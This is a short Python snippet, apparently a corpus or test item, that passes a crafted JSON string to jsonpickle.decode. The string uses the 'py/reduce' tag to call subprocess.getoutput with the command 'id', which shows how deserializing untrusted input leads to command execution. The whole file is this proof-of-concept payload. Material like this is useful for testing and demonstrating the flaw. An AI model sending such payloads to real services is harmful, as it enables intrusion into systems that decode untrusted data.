# corpus: jsonpickle.decode of a JSON document using py/reduce to call subprocess
import jsonpickle

payload = '{"py/reduce": [{"py/function": "subprocess.getoutput"}, {"py/tuple": ["id"]}]}'
print(jsonpickle.decode(payload))
